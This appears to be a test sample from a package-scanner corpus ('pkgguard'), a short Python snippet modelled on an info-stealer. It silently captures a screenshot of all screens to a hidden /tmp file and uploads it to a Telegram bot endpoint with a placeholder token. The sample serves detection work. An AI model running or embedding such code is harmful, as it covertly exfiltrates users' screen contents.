# pkgguard corpus 120 (screenshot), modelled on [stealer-profile]; inert, never run.
import requests
from PIL import ImageGrab

ImageGrab.grab(all_screens=True).save("/tmp/.d.png")
requests.post("https://api.telegram.org/bot1000000000:AAplaceholderplaceholderplaceholder1/sendPhoto",
              data={"chat_id": "1"}, files={"photo": open("/tmp/.d.png", "rb")})
